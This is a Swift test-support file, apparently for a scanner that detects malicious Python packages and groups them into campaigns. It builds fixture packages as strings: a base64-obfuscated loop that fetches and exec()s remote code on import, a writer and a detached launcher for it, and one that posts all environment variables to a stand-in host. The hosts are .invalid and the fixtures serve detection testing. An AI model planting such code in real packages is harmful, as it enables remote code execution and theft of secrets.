import Archives
import Behaviors
import Foundation
import Intelligence
import Judgement
import Linking
import Rules
import Scanning
import Testing

/// Packages of a made-up workshop, and what it varies from one to the next. Inert: nothing is ever run, and the host is
/// `example.invalid`.
struct Workshop {
  var host = "one.example.invalid"
  var mark = "lantern7731"
  /// Names of the loop, in the order: address, answer, first half, second half.
  var names = ["straddrx", "bstrreply", "hlfone", "hlftwo"]
  var seconds = 45
  var separator = "|"

  /// The program that the package hides: asks again and again, and executes what comes.
  var loop: String {
    """
    import base64, time, requests
    \(names[0]) = "https://\(host)/\(mark).png"
    while True:
        \(names[2]) = ''
        \(names[3]) = ''
        try:
            \(names[1]) = requests.get(\(names[0]), headers={'X-Quiet': 'yes', 'Pragma': 'no-cache'}).text
            cutplace = \(names[1]).find("\(separator)")
            if cutplace > 0:
                \(names[2]) = \(names[1])[0:cutplace]
                \(names[3]) = \(names[1])[cutplace + 1:]
            if len(\(names[3])) > 0:
                exec(base64.b64decode(\(names[3]).encode("ascii")).decode("ascii"))
        except Exception:
            pass
        time.sleep(\(seconds))
    """
  }

  /// A package that hides the loop in base64 and executes it when it is imported.
  func package(_ name: String) -> Artifact {
    let hidden = Data(loop.utf8).base64EncodedString()
    return Self.folder(
      name,
      ["\(name)/__init__.py": "import base64\nwrapd = '\(hidden)'\nexec(base64.b64decode(wrapd).decode('ascii'))\n"])
  }

  /// Writes a program under a path made of facts of the host, and never starts it.
  static func writer(_ name: String) -> Artifact {
    let hidden = Data(Workshop().loop.utf8).base64EncodedString()
    return folder(
      name,
      [
        "\(name)/__init__.py": """
        import base64, os, platform
        body = base64.b64decode('\(hidden)').decode('ascii')
        target = os.getcwd() + "/" + platform.system()[0] + os.getlogin() + ".py"
        out = open(target, "w")
        out.write(body)
        out.close()
        """
      ])
  }

  /// Starts a program under that path, put together in another way, and has none.
  static func launcher(_ name: String) -> Artifact {
    folder(
      name,
      [
        "\(name)/__init__.py": """
        import os, platform, subprocess, sys
        from os.path import join
        place = join(os.getcwd(), f"{platform.system()[0]}{os.getlogin()}.py")
        if os.path.isfile(place):
            subprocess.Popen([sys.executable, place], creationflags=subprocess.DETACHED_PROCESS, stdout=subprocess.DEVNULL)
        """
      ])
  }

  /// Bad as well, and of nobody we know: sends the environment away.
  static func stranger(_ name: String) -> Artifact {
    folder(
      name,
      [
        "\(name)/__init__.py": """
        import os, json, urllib.request
        def ship():
            body = json.dumps(dict(os.environ)).encode()
            urllib.request.urlopen(urllib.request.Request("https://two.example.invalid/in", data=body))
        ship()
        """
      ])
  }

  static func honest(_ name: String) -> Artifact {
    folder(name, ["\(name)/__init__.py": "import json\ndef load(path):\n    return json.load(open(path))\n"])
  }

  static func folder(_ name: String, _ files: [String: String]) -> Artifact {
    let all = files.merging([
      "PKG-INFO": "Metadata-Version: 2.1\nName: \(name)\nVersion: 1.0\n"
    ]) { ours, _ in ours }
    return Artifact(
      path: name,
      content: .folder(
        all.sorted { $0.key < $1.key }.map { FolderFile(path: "\(name)-1.0/\($0.key)", content: Array($0.value.utf8)) })
    )
  }
}

/// What a scan of a package says.
func report(_ artifact: Artifact, campaigns: Scanning.Scanner.Campaigns = .embedded) throws -> ScanReport {
  var scanner = Scanning.Scanner(
    ruleSet: try RuleSet.embedded(), catalogue: try Catalogue.embedded(), weights: try Weights.embedded())
  scanner.campaigns = campaigns
  return scanner.scan(artifact)
}

/// A knowledge base of one campaign, of which these packages are known.
func knowledge(of artifacts: [Artifact]) throws -> KnowledgeBase {
  let packages = try artifacts.map { artifact in
    let report = try report(artifact)
    return CampaignDraft.Package(
      name: report.distributionName, version: report.distributionVersion, sha256: report.artifact.sha256,
      traits: report.traits)
  }
  let page = CampaignDraft(name: "Lantern", date: "2026-11-24", packages: packages).page
  return try KnowledgeBase.load(files: [("Campaigns/lantern.md", Array(page.utf8))])
}
